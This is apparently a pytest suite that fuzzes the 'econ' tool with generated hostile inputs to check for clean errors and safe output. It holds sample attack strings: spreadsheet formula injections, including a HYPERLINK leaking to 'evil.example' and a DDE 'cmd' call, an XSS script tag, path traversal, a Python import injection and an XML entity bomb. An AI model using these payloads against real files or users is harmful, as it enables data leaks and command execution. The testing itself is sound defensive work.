"""A generated corpus of hostile inputs and faults (issue 10).

Every case runs the real command line and asserts what econ promises: an exit
code in {0, 1 (a batch with failed scenarios), 2 (bad input), 3 (environment
fault)}, never a traceback or an "internal error", a message naming the file
(and the key or cell where there is one), nothing left at a final output path
when a command fails, no temporary file left behind, nothing unescaped in the
HTML and no formula or link made from text in a workbook.

The cases are generated: each mutation of a seed scenario file (every
assumption x every kind of bad value or unit, the top-level keys, the
timeline), tampered workbooks, special files, batch folders, file-system
faults and signals. ``len(CASES)`` is asserted at the bottom (at least 150).
"""

from __future__ import annotations

import os
import re
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest

from econ.cli import main

ROOT = Path(__file__).resolve().parents[1]
SEEDS = ROOT / "seeds"
SEED = "national_ree_gap"
RUB_SEED = "acron_murmansk"
EVIL_TITLES = (
    '=HYPERLINK("http://evil.example/?leak","Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+2)",
    "@SUM(1)",
    "<script>alert(1)</script>",
    "http://evil.example/",
    "\x1b[2J\x07bell",
    "del\x7fchar",
    "\u202eright-to-left",
)


def _text(seed: str = SEED) -> str:
    return (SEEDS / f"{seed}.toml").read_text(encoding="utf-8")


def _keys(seed: str) -> list[str]:
    return re.findall(r"^\[assumptions\.(\w+)\]", _text(seed), flags=re.M)


def _set(text: str, key: str, field: str, literal: str | None) -> str:
    """Set (or, with ``None``, remove) ``field`` of assumption ``key``."""
    start = text.index(f"[assumptions.{key}]")
    end = text.find("\n[", start + 1)
    end = len(text) if end < 0 else end
    block = text[start:end]
    pattern = re.compile(rf"^{field} = .*$", flags=re.M)
    if literal is None:
        block = pattern.sub("", block)
    elif pattern.search(block):
        block = pattern.sub(lambda _: f"{field} = {literal}", block, count=1)
    else:
        block = block.replace("]\n", f"]\n{field} = {literal}\n", 1)
    return text[:start] + block + text[end:]


def _top(text: str, key: str, literal: str) -> str:
    return re.sub(rf"^{key} = .*$", lambda _: f"{key} = {literal}", text, count=1, flags=re.M)


def _toml_string(s: str) -> str:
    out = []
    for ch in s:
        if ch in '"\\' or ord(ch) < 32 or ord(ch) == 0x7F:
            out.append(f"\\u{ord(ch):04x}")
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


@dataclass(frozen=True)
class Case:
    """One hostile input: ``make`` writes it into a folder and returns the
    path given to ``econ build``; ``where`` must appear in the message when
    the build is refused."""

    id: str
    make: Callable[[Path], Path]
    where: str = ""
    may_build: bool = False


def _scenario_case(
    id: str, text_of: Callable[[], str], where: str = "", may_build: bool = False
) -> Case:
    def make(folder: Path) -> Path:
        path = folder / "hostile.toml"
        path.write_text(text_of(), encoding="utf-8")
        return path

    return Case(id, make, where, may_build)


BAD_VALUES = {
    "text": '"twelve"',
    "bool": "true",
    "empty_list": "[]",
    "table": "{ a = 1 }",
    "huge": "1e308",
    "minus_huge": "-1e308",
    "nan": "nan",
    "inf": "inf",
    "date": "2025-01-01",
}
BAD_UNITS = {
    "power_tower": '"USD/kg*10**10**10"',
    "degC": '"degC"',
    "parens": '"((((USD))))"',
    "long": '"' + "k" * 200 + '"',
    "unknown": '"furlongs"',
    "number": "12",
    "injection": "\"__import__('os')\"",
}


def _scenario_cases() -> list[Case]:
    cases: list[Case] = []
    for seed in (SEED, RUB_SEED):
        for key in _keys(seed):
            where = f"assumptions.{key}"
            for name, literal in BAD_VALUES.items():
                cases.append(
                    _scenario_case(
                        f"{seed}-{key}-value-{name}",
                        lambda s=seed, k=key, v=literal: _set(_text(s), k, "value", v),
                        where,
                    )
                )
            for name, literal in BAD_UNITS.items():
                cases.append(
                    _scenario_case(
                        f"{seed}-{key}-unit-{name}",
                        lambda s=seed, k=key, v=literal: _set(_text(s), k, "unit", v),
                        where,
                    )
                )
            cases.append(
                _scenario_case(
                    f"{seed}-{key}-no-value",
                    lambda s=seed, k=key: _set(_text(s), k, "value", None),
                    where,
                )
            )
    for i, title in enumerate(EVIL_TITLES):
        cases.append(
            _scenario_case(
                f"title-{i}",
                lambda t=title: _top(_text(), "title", _toml_string(t)),
                may_build=True,
            )
        )
    top = {
        "name-index": ("name", '"index"', True),
        "name-traversal": ("name", '"../evil"', False),
        "name-space": ("name", '"a b"', False),
        "name-nul": ("name", '"a\\u0000"', False),
        "title-nul": ("title", '"x\\u0000"', False),
        "model-unknown": ("model", '"nope"', False),
        "model-number": ("model", "3", False),
        "start-year-zero": ("start_year", "0", False),
        "start-year-huge": ("start_year", "99999999999", False),
        "start-year-text": ("start_year", '"2025"', False),
        "horizon-zero": ("horizon_yr", "0", False),
        "horizon-negative": ("horizon_yr", "-3", False),
        "horizon-huge": ("horizon_yr", "100000", False),
        "horizon-float": ("horizon_yr", "30.5", False),
    }
    for id, (key, literal, builds) in top.items():
        where = {"start_year": "timeline", "horizon_yr": "timeline"}.get(key, key)
        cases.append(
            _scenario_case(
                id, lambda k=key, v=literal: _top(_text(), k, v), where=where, may_build=builds
            )
        )
    raw = {
        "deep-nesting": "a = " + "[" * 5000 + "]" * 5000 + "\n",
        "deep-tables": "x = " + "{ a = " * 200 + "1" + " }" * 200 + "\n",
        "empty": "",
        "not-toml": "this is not = = toml\n",
        "duplicate-key": _text() + '\nname = "again"\n',
        "unknown-key": _text() + '\nsurprise = "x"\n',
        "bom": "\ufeff" + _text(),
    }
    for id, content in raw.items():
        cases.append(_scenario_case(id, lambda c=content: c, may_build=id == "bom"))

    def binary(folder: Path) -> Path:
        path = folder / "hostile.toml"
        path.write_bytes(b"\xff\xfe\x00garbage\x80\x81")
        return path

    def too_big(folder: Path) -> Path:
        path = folder / "hostile.toml"
        path.write_text(_text() + "#" * (2 * 1024 * 1024) + "\n", encoding="utf-8")
        return path

    def zip_as_toml(folder: Path) -> Path:
        path = folder / "hostile.toml"
        shutil.copy(ROOT / "workbooks" / f"{SEED}.xlsx", path)
        return path

    def fifo(folder: Path) -> Path:
        path = folder / "pipe.toml"
        os.mkfifo(path)
        return path

    def folder_as_file(folder: Path) -> Path:
        path = folder / "dir.toml"
        path.mkdir()
        return path

    def missing(folder: Path) -> Path:
        return folder / "missing.toml"

    def suffix(ext: str) -> Callable[[Path], Path]:
        def make(folder: Path) -> Path:
            path = folder / f"hostile{ext}"
            path.write_text("a,b\n1,2\n", encoding="utf-8")
            return path

        return make

    cases += [
        Case("binary", binary),
        Case("too-big", too_big),
        Case("zip-as-toml", zip_as_toml),
        Case("fifo", fifo),
        Case("folder", folder_as_file),
        Case("missing", missing),
        Case("dev-zero", lambda folder: Path("/dev/zero")),
        *(Case(f"suffix{ext}", suffix(ext)) for ext in (".csv", ".ods", ".xls", ".json")),
    ]
    return cases


# ---------------------------------------------------------------------------
# tampered workbooks
# ---------------------------------------------------------------------------


def _workbook_case(id: str, tamper: Callable[[openpyxl.Workbook], None], where: str = "") -> Case:
    def make(folder: Path) -> Path:
        path = folder / "tampered.xlsx"
        wb = openpyxl.load_workbook(ROOT / "workbooks" / f"{SEED}.xlsx")
        tamper(wb)
        wb.save(path)
        return path

    return Case(id, make, where)


def _meta_set(key: str, value: object) -> Callable[[openpyxl.Workbook], None]:
    def tamper(wb: openpyxl.Workbook) -> None:
        ws = wb["_econ"]
        for row in ws.iter_rows(min_row=2):
            if row[0].value == key:
                row[1].value = value
                return
        raise AssertionError(key)

    return tamper


def _cell(ref: str, value: object) -> Callable[[openpyxl.Workbook], None]:
    def tamper(wb: openpyxl.Workbook) -> None:
        sheet, cell = ref.split("!")
        wb[sheet][cell] = value

    return tamper


def _bytes_case(id: str, data: Callable[[], bytes], name: str = "tampered.xlsx") -> Case:
    def make(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(data())
        return path

    return Case(id, make)


def _rezip(name: str, change: Callable[[str, bytes], bytes]) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        path = folder / name
        with (
            zipfile.ZipFile(ROOT / "workbooks" / f"{SEED}.xlsx") as src,
            zipfile.ZipFile(path, "w") as dst,
        ):
            for info in src.infolist():
                dst.writestr(info, change(info.filename, src.read(info)))
        return path

    return make


def _entities(member: str, data: bytes) -> bytes:
    if member != "xl/sharedStrings.xml":
        return data
    bomb = b'?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    return data.replace(b"?>", bomb, 1)


def _dimension(member: str, data: bytes) -> bytes:
    if not member.startswith("xl/worksheets/sheet"):
        return data
    return re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1000000"', data)


def _workbook_cases() -> list[Case]:
    seed = (ROOT / "workbooks" / f"{SEED}.xlsx").read_bytes()
    return [
        _workbook_case("meta-scenario-garbage", _meta_set("scenario_toml", "= = ="), "_econ"),
        _workbook_case("meta-scenario-number", _meta_set("scenario_toml", 5), "_econ"),
        _workbook_case("meta-generator", _meta_set("generator", "evil"), "_econ"),
        _workbook_case("meta-input-ref-number", _meta_set("input.discount_rate", 7), "_econ"),
        _workbook_case("meta-input-ref-bad", _meta_set("input.discount_rate", "Nope!ZZ0")),
        _workbook_case("meta-input-ref-far", _meta_set("input.discount_rate", "Assumptions!C9000")),
        _workbook_case("meta-deleted", lambda wb: wb.remove(wb["_econ"])),
        _workbook_case("assumptions-deleted", lambda wb: wb.remove(wb["Assumptions"])),
        _workbook_case("horizon-edited", _cell("Assumptions!C4", 99), "Assumptions!C4"),
        _workbook_case("start-year-text", _cell("Assumptions!C3", "soon"), "Assumptions!C3"),
        _workbook_case("formula-without-value", _cell("Assumptions!C7", "=C9*2"), "Assumptions"),
        _workbook_case("input-text", _cell("Assumptions!C7", "twelve"), "Assumptions"),
        _workbook_case("key-renamed", _cell("Assumptions!A7", "renamed"), "Assumptions!A7"),
        _workbook_case("unit-changed", _cell("Assumptions!D7", "RUB/kg"), "Assumptions!D7"),
        _workbook_case("many-rows", _cell("Assumptions!A20001", "x"), "Assumptions"),
        _bytes_case("encrypted", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512),
        _bytes_case("truncated", lambda: seed[: len(seed) // 2]),
        _bytes_case("not-zip", lambda: b"hello"),
        _bytes_case("empty-xlsx", lambda: b""),
        _bytes_case("xlsm-garbage", lambda: b"PK\x03\x04junk", "tampered.xlsm"),
        Case("entity-bomb", _rezip("bomb.xlsx", _entities)),
        Case("huge-dimension", _rezip("wide.xlsx", _dimension)),
    ]


CASES = _scenario_cases() + _workbook_cases()


def _files(folder: Path) -> set[str]:
    return {p.name for p in folder.rglob("*")} if folder.exists() else set()


def _check_outputs(out: Path) -> None:
    """Nothing unescaped in the HTML, no formula or link made of text."""
    for page in out.glob("*.html"):
        html = page.read_text(encoding="utf-8")
        assert "<script>alert" not in html
        assert 'href="http://evil' not in html
    for book in out.glob("*.xlsx"):
        with zipfile.ZipFile(book) as zf:
            for name in zf.namelist():
                if name.startswith("xl/worksheets/sheet"):
                    xml = zf.read(name).decode("utf-8")
                    for formula in re.findall(r"<f>(.*?)</f>", xml):
                        assert "evil" not in formula and "cmd|" not in formula, formula
                if name.endswith(".rels"):
                    assert "evil.example" not in zf.read(name).decode("utf-8")


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_input(case: Case, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    src = tmp_path / "in"
    src.mkdir()
    path = case.make(src)
    out = tmp_path / "out"
    code = main(["build", str(path), "-o", str(out)])
    captured = capsys.readouterr()
    err = captured.err
    assert code in (0, 2, 3), err
    assert "Traceback" not in err and "internal error" not in err, err
    if code == 0:
        # A value inside the model's domain but outside the assumption's own
        # range builds with a warning naming it (issue 12: ranges warn).
        key = case.where.removeprefix("assumptions.").split(".")[0]
        warned = f"'{key}' value" in captured.out and "outside its stated range" in captured.out
        assert case.may_build or warned, f"accepted: {captured.out}"
        _check_outputs(out)
    else:
        assert code == 2, err
        assert err.startswith("econ: error: ") and err.count("\n") == 1, err
        assert str(path) in err, err
        assert case.where in err, err
        assert not _files(out), "a failed build left files"
    assert not [p for p in _files(out) | _files(src) if ".econ-tmp-" in p]


# ---------------------------------------------------------------------------
# Batches: collisions, failure rows, reserved names, options
# ---------------------------------------------------------------------------


def _named(folder: Path, file: str, name: str, seed: str = SEED) -> Path:
    path = folder / file
    path.write_text(_top(_text(seed), "name", f'"{name}"'), encoding="utf-8")
    return path


def test_batch_collisions_and_reserved_names_get_distinct_files(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = tmp_path / "in"
    src.mkdir()
    _named(src, "a.toml", "same")
    _named(src, "b.toml", "same")
    _named(src, "c.toml", "index")
    _named(src, "d.toml", "summary")
    (src / "e.toml").write_text(_set(_text(), "discount_rate", "value", '"x"'), encoding="utf-8")
    out = tmp_path / "out"
    code = main(["batch", str(src), "-o", str(out), "-j", "2", "-q"])
    err = capsys.readouterr().err
    assert code == 1, err  # e.toml fails, the others build
    assert "Traceback" not in err
    assert f"{src / 'b.toml'}: scenario name 'same' is also the name of {src / 'a.toml'}" in err
    files = _files(out)
    assert {"same.xlsx", "same-2.xlsx", "index-2.xlsx", "summary-2.xlsx"} <= files
    assert {"index.html", "summary.csv", "summary.xlsx"} <= files
    index = (out / "index.html").read_text(encoding="utf-8")
    for stem in ("same", "same-2", "index-2", "summary-2"):
        assert f'href="{stem}.html"' in index
    # the failure row names the file and the key
    assert f"{src / 'e.toml'}: assumptions.discount_rate" in index


@pytest.mark.parametrize("argv", [["-j", "0"], ["-j", "-3"], ["-j", "100000"], ["--timeout", "-1"]])
def test_batch_refuses_bad_options(
    argv: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out"
    with pytest.raises(SystemExit) as exc:
        main(["batch", str(SEEDS), "-o", str(out), *argv])
    assert exc.value.code == 2
    assert "Traceback" not in capsys.readouterr().err
    assert not out.exists()


def test_scheduler_that_does_not_answer_is_a_message(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pytest.importorskip("dask.distributed")
    out = tmp_path / "out"
    assert main(["batch", str(SEEDS), "-o", str(out), "--scheduler", "tcp://127.0.0.1:1"]) == 2
    err = capsys.readouterr().err
    assert "--scheduler" in err and "Traceback" not in err
    assert not out.exists()  # no empty output folder


# ---------------------------------------------------------------------------
# Environment faults (exit 3) and process faults: stdout full, signals, kill
# ---------------------------------------------------------------------------


def test_output_under_a_file_is_an_environment_fault(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x")
    for out in (blocker, blocker / "sub"):
        code = main(["build", str(SEEDS / f"{SEED}.toml"), "-o", str(out)])
        err = capsys.readouterr().err
        assert code == 3, err
        assert err.startswith("econ: error: cannot ") and str(blocker) in err
        assert "Traceback" not in err
    assert blocker.read_text() == "x"


def test_read_only_folder_is_an_environment_fault(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    if os.geteuid() == 0:
        pytest.skip("root writes into read-only folders")
    out = tmp_path / "ro"
    out.mkdir()
    out.chmod(0o555)
    assert main(["build", str(SEEDS / f"{SEED}.toml"), "-o", str(out)]) == 3


def _as_in_a_terminal() -> None:
    """In the child: Ctrl-C as a terminal delivers it. A test run started in
    the background (``cmd &``, some CI runners) inherits SIGINT ignored, and a
    Python started so never sees it."""
    signal.signal(signal.SIGINT, signal.SIG_DFL)


def _econ(*args: str, stdout: object = subprocess.PIPE) -> subprocess.Popen[bytes]:
    return subprocess.Popen(
        [sys.executable, "-m", "econ", *args],
        stdout=stdout,  # type: ignore[arg-type]
        stderr=subprocess.PIPE,
        start_new_session=True,
        preexec_fn=_as_in_a_terminal,
    )


def test_stdout_to_dev_full_is_exit_3_without_traceback() -> None:
    with open("/dev/full", "wb") as full:
        proc = _econ("show", str(SEEDS / f"{SEED}.toml"), stdout=full)
        _, err = proc.communicate(timeout=120)
    assert proc.returncode == 3, err
    assert b"Traceback" not in err and b"Exception ignored" not in err
    assert err.decode().startswith("econ: error: cannot ")


def _cmdline(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
    except OSError:
        return "(gone)"


def _running(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


def _children(pid: int) -> list[int]:
    out = subprocess.run(["ps", "-o", "pid=", "--ppid", str(pid)], capture_output=True, text=True)
    return [int(p) for p in out.stdout.split()]


@pytest.mark.parametrize(("sig", "code"), [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_signals_stop_a_batch_promptly(tmp_path: Path, sig: int, code: int) -> None:
    src = tmp_path / "in"
    src.mkdir()
    for i in range(60):
        _named(src, f"s{i}.toml", f"s{i}")
    out = tmp_path / "out"
    proc = _econ("batch", str(src), "-o", str(out), "-j", "2", "-q")
    deadline = time.monotonic() + 90
    while not list(out.glob("s*.xlsx")):
        assert time.monotonic() < deadline, "no workbook within 90 s"
        time.sleep(0.1)
    children = _children(proc.pid)
    stopped_at = time.monotonic()
    if sig == signal.SIGINT:
        os.killpg(proc.pid, sig)  # Ctrl-C reaches the whole foreground group
    else:
        proc.send_signal(sig)
    _, err = proc.communicate(timeout=30)
    assert time.monotonic() - stopped_at < 15, "did not stop promptly"
    assert proc.returncode == code, err
    assert b"Traceback" not in err
    assert len([line for line in err.decode().splitlines() if line.strip()]) == 1, err
    assert len(list(out.glob("s*.xlsx"))) < 60, "every remaining task was still built"
    deadline = time.monotonic() + 5  # the resource tracker exits when its pipe closes
    while (alive := [c for c in children if _running(c)]) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not alive, f"workers left running: {[_cmdline(c) for c in alive]}"
    assert not [p for p in _files(out) if ".econ-tmp-" in p]


@pytest.mark.parametrize("moment", ["workers starting", "workers building"])
def test_ctrl_c_stops_a_sweep_with_files_promptly(tmp_path: Path, moment: str) -> None:
    """Issue 12: Ctrl-C during ``econ sweep --files`` (to the whole foreground
    group, as a terminal sends it) stops at once: pending variants are
    cancelled and running ones terminated, exit 130 with one line and no
    traceback (also from a worker still starting up), no worker left, and
    only complete files at final paths (each variant's workbook and page
    together, or neither)."""
    out = tmp_path / "out"
    proc = _econ(
        "sweep",
        str(SEEDS / "magnets_plant.toml"),
        "--vary",
        "capex_usd=100:300:2",
        "--files",
        "-o",
        str(out),
        "-j",
        "2",
        "-q",
    )
    deadline = time.monotonic() + 90
    ready = (
        (lambda: out.is_dir())
        if moment == "workers starting"
        else (lambda: bool(list(out.glob("*.xlsx"))))
    )
    while not ready():
        assert time.monotonic() < deadline and proc.poll() is None, "sweep did not start"
        time.sleep(0.02)
    children = _children(proc.pid)
    stopped_at = time.monotonic()
    os.killpg(proc.pid, signal.SIGINT)
    _, err = proc.communicate(timeout=60)
    assert time.monotonic() - stopped_at < 10, "did not stop promptly"
    assert proc.returncode == 130, err
    assert b"Traceback" not in err and b"KeyboardInterrupt" not in err, err
    assert len([line for line in err.decode().splitlines() if line.strip()]) == 1, err
    deadline = time.monotonic() + 5
    while (alive := [c for c in children if _running(c)]) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not alive, f"workers left running: {[_cmdline(c) for c in alive]}"
    files = _files(out)
    assert not [p for p in files if ".econ-tmp-" in p]
    assert len([p for p in files if p.endswith(".xlsx")]) < 101, "every variant was built"
    assert not {"sweep.html", "sweep.csv"} & files  # the sweep's page comes last, if at all
    for book in out.glob("*.xlsx"):
        assert (out / f"{book.stem}.html").read_text(encoding="utf-8").rstrip().endswith("</html>")
        openpyxl.load_workbook(book, read_only=True).close()  # a complete workbook
    for page in out.glob("*--*.html"):
        assert (out / f"{page.stem}.xlsx").is_file()


def test_kill_during_write_never_leaves_a_broken_workbook(tmp_path: Path) -> None:
    """kill -9 at staggered moments of a build: the final path holds either
    nothing or a complete workbook econ reads back; a later run removes the
    temporary files the killed runs left."""
    from econ.excel.reader import read_workbook

    out = tmp_path / "out"
    for i in range(8):
        proc = _econ("build", str(SEEDS / f"{SEED}.toml"), "-o", str(out))
        time.sleep(0.3 + 0.12 * i)
        proc.kill()
        proc.communicate(timeout=30)
        book = out / f"{SEED}.xlsx"
        if book.exists():
            assert read_workbook(book).scenario.name == SEED
    gone = subprocess.Popen(["true"])
    gone.wait()
    out.mkdir(exist_ok=True)
    stale = out / f".{SEED}.xlsx.econ-tmp-{gone.pid}-abc.tmp"
    stale.write_bytes(b"half a workbook")
    assert main(["build", str(SEEDS / f"{SEED}.toml"), "-o", str(out)]) == 0
    assert not [p for p in _files(out) if ".econ-tmp-" in p]
    assert not [p for p in _files(out) if "edited-backup" in p]  # econ's own files: no backup


# ---------------------------------------------------------------------------
# Edits accounted for
# ---------------------------------------------------------------------------


def test_edited_workbooks_are_kept_on_run(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`econ run` (make run) over a folder holding an edited workbook keeps it."""
    out = tmp_path / "wb"
    assert main(["run", str(SEEDS), "-o", str(out)]) == 0
    book = out / f"{SEED}.xlsx"
    untouched = {p.name: p.read_bytes() for p in out.glob("*.xlsx")}
    wb = openpyxl.load_workbook(book)
    wb["Assumptions"]["B2"] = "my note"
    wb.save(book)
    edited = book.read_bytes()
    capsys.readouterr()
    assert main(["run", str(SEEDS), "-o", str(out)]) == 0
    printed = capsys.readouterr().out
    backup = out / f"{SEED}.edited-backup.xlsx"
    assert backup.read_bytes() == edited
    assert f"kept {book} as {backup}" in printed
    assert len(list(out.glob("*.edited-backup*"))) == 1  # the others were econ's own
    rebuilt = {p.name: p.read_bytes() for p in out.glob("*.xlsx") if "backup" not in p.name}
    assert rebuilt == untouched
    # a foreign file at an output path is kept too
    book.write_bytes(b"not a workbook")
    assert main(["build", str(SEEDS / f"{SEED}.toml"), "-o", str(out)]) == 0
    assert (out / f"{SEED}.edited-backup-2.xlsx").read_bytes() == b"not a workbook"


def _cache_value(path: Path, cell: str, value: str) -> None:
    """Give a formula cell a cached value, as a spreadsheet application does."""
    tmp = path.with_suffix(".tmp.xlsx")
    changed = False
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.startswith("xl/worksheets/sheet"):
                new = re.sub(
                    rf'(<c r="{cell}"[^>]*>)<f>([^<]*)</f>(<v></v>|<v/>)?',
                    lambda m: f"{m[1]}<f>{m[2]}</f><v>{value}</v>",
                    data.decode("utf-8"),
                ).encode("utf-8")
                changed |= new != data
                data = new
            dst.writestr(info, data)
    assert changed
    tmp.replace(path)


def test_formula_in_an_input_cell_is_read_and_reported(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """LibreOffice saves a typed formula with its value: econ uses the value
    and says so (the value is cached here as a spreadsheet would)."""
    src = ROOT / "workbooks" / f"{SEED}.xlsx"
    path = tmp_path / "what_if.xlsx"
    wb = openpyxl.load_workbook(src)
    ref = next(
        r[1].value for r in wb["_econ"].iter_rows(min_row=2) if r[0].value == "input.discount_rate"
    )
    cell = str(ref).split("!")[1].replace("$", "")
    wb["Assumptions"][cell] = "=0.06*2"
    wb.save(path)
    _cache_value(path, cell, "0.12")
    assert main(["build", str(path)]) == 0
    printed = capsys.readouterr().out
    assert f"Assumptions!{cell}: the formula '=0.06*2' in an input cell was read as its value" in (
        printed
    )
    assert "edited discount_rate" in printed
    # an edited copy is rebuilt under its own name: the original's page is untouched
    assert (tmp_path / "what_if.html").exists() and not (tmp_path / f"{SEED}.html").exists()


def test_the_corpus_is_large_enough() -> None:
    assert len(CASES) >= 150


def test_outputs_get_the_umask_mode_and_export_refuses_a_folder(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every output (workbook, page, exported TOML) gets ``0o666 & ~umask``,
    as any new file would; ``export -o FOLDER`` is bad input, not a crash."""
    umask = os.umask(0o022)
    os.umask(umask)
    out = tmp_path / "out"
    assert main(["build", str(SEEDS / f"{SEED}.toml"), "-o", str(out)]) == 0
    toml = tmp_path / "x.toml"
    assert main(["export", str(out / f"{SEED}.xlsx"), "-o", str(toml)]) == 0
    for path in (out / f"{SEED}.xlsx", out / f"{SEED}.html", toml):
        assert path.stat().st_mode & 0o777 == 0o666 & ~umask, path
    capsys.readouterr()
    assert main(["export", str(out / f"{SEED}.xlsx"), "-o", str(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert "found a folder" in err and "Traceback" not in err


def test_a_task_over_its_time_limit_is_a_failure_row_and_writes_nothing(tmp_path: Path) -> None:
    from econ.batch import Task, build_task

    row = build_task(Task(str(SEEDS / f"{SEED}.toml")), str(tmp_path), timeout_s=1e-4)
    assert row["error"] is not None and "time limit of one scenario" in row["error"]
    assert str(SEEDS / f"{SEED}.toml") in row["error"]
    assert not [p for p in tmp_path.iterdir() if p.suffix in (".xlsx", ".html")]
    assert not [p for p in tmp_path.iterdir() if ".econ-tmp-" in p.name]


@pytest.fixture
def tiny_disk(tmp_path: Path) -> Iterator[Path]:
    """A 64 kB tmpfs (where the machine lets the tests mount one)."""
    mount = tmp_path / "tiny"
    mount.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(mount)],
        capture_output=True,
        check=False,
    )
    if done.returncode != 0:
        pytest.skip("cannot mount a small tmpfs here")
    try:
        yield mount
    finally:
        subprocess.run(["umount", str(mount)], check=False)


def test_a_full_disk_is_exit_3_and_leaves_no_partial_outputs(
    tiny_disk: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tiny_disk / "out"
    assert main(["build", str(SEEDS / "magnets_plant.toml"), "-o", str(out)]) == 3
    err = capsys.readouterr().err
    assert err.startswith(f"econ: error: cannot write {out}") and "No space left" in err
    assert not os.listdir(out), "a failed build left files"  # all outputs or none
    proc = _econ("batch", str(SEEDS), "-o", str(tiny_disk / "b"), "-j", "2", "-q")
    _, raw = proc.communicate(timeout=300)
    assert proc.returncode == 3, raw
    assert b"Traceback" not in raw and b"Exception ignored" not in raw
    assert not [p for p in _files(tiny_disk) if ".econ-tmp-" in p]
